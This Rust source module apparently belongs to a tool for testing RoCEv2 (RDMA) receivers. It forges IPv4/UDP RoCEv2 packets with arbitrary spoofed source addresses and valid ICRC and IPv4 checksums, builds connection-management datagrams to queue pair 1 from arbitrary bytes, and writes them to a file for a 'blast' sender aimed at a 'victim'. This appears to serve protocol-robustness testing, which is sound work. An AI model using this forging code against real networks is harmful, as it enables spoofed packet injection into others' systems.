//! RoCEv2 packets with any source address, as an attacker makes them: each has a right ICRC and a right IPv4
//! checksum, so that receivers refuse them for their content and not for damage.

use std::fs;
use std::net::Ipv4Addr;
use std::path::Path;

use wire::cm::CmMad;
use wire::icrc::ICRC_SIZE;
use wire::ipv4::Identification;
use wire::mad::GSI_QKEY;
use wire::udp::UDP_SIZE;
use wire::{
    Deth, Flow, Ipv4, MAX_HEADERS, Message, Packet, Psn, Qpn, ROCE_PORT, Service, Tail,
    TrafficClass, Udp,
};

use crate::Error;

/// Where forged packets claim to come from, and where they go.
#[derive(Clone, Copy, Debug)]
pub struct Route {
    /// The source address in the packet, which need not be the sender's.
    pub source: Ipv4Addr,
    /// The victim's address.
    pub destination: Ipv4Addr,
    /// The source port in the packet.
    pub source_port: u16,
}

impl Route {
    /// An IPv4 packet of this route with a RoCEv2 packet in it. `payload` is a multiple of four bytes long.
    ///
    /// # Panics
    /// When the fields of `packet` contradict each other.
    pub fn packet(&self, packet: &Packet, payload: &[u8]) -> Vec<u8> {
        let mut headers = [0; MAX_HEADERS];
        let length = packet.encode(0, &mut headers).expect("fields that agree");
        self.datagram(&[&headers[..length], payload].concat())
    }

    /// An IPv4 packet of this route with these bytes from the BTH on.
    pub fn datagram(&self, transport: &[u8]) -> Vec<u8> {
        let identification = Identification {
            value: 0,
            dont_fragment: true,
        };
        let length = UDP_SIZE + transport.len() + ICRC_SIZE;
        let udp = Udp {
            source_port: self.source_port,
            destination_port: ROCE_PORT,
            length: length as u16,
            checksum: 0,
        };
        let ip = Ipv4 {
            traffic_class: TrafficClass(0),
            total_length: 20 + length as u16,
            identification,
            ttl: 64,
            protocol: 17,
            source: self.source,
            destination: self.destination,
        };
        let flow = Flow::ipv4(self.source, self.destination, self.source_port, ROCE_PORT);
        let mut icrc = flow.seed(transport.len() as u16, identification);
        icrc.transport(transport);
        [
            &ip.to_bytes()[..],
            &udp.to_bytes(),
            transport,
            &icrc.finish(),
        ]
        .concat()
    }

    /// A connection management datagram to queue pair 1.
    pub fn management(&self, mad: &CmMad, psn: u32) -> Vec<u8> {
        self.management_bytes(&mad.to_bytes(), psn)
    }

    /// The same with bytes that need not be a management datagram.
    pub fn management_bytes(&self, bytes: &[u8], psn: u32) -> Vec<u8> {
        let deth = Deth {
            qkey: GSI_QKEY,
            source: Qpn::new(1),
        };
        let message = Message::Datagram {
            deth,
            tail: Tail::None,
        };
        self.packet(
            &Packet::new(Service::Ud, Qpn::new(1), Psn::new(psn), message),
            bytes,
        )
    }
}

/// Writes packets as `probe/blast.c` reads them.
///
/// # Errors
/// When the file cannot be written.
pub fn write(path: &Path, packets: &[Vec<u8>]) -> Result<(), Error> {
    let mut bytes = Vec::new();
    for packet in packets {
        bytes.extend_from_slice(&(packet.len() as u16).to_le_bytes());
        bytes.extend_from_slice(packet);
    }
    fs::write(path, bytes).map_err(Error::file(path))
}
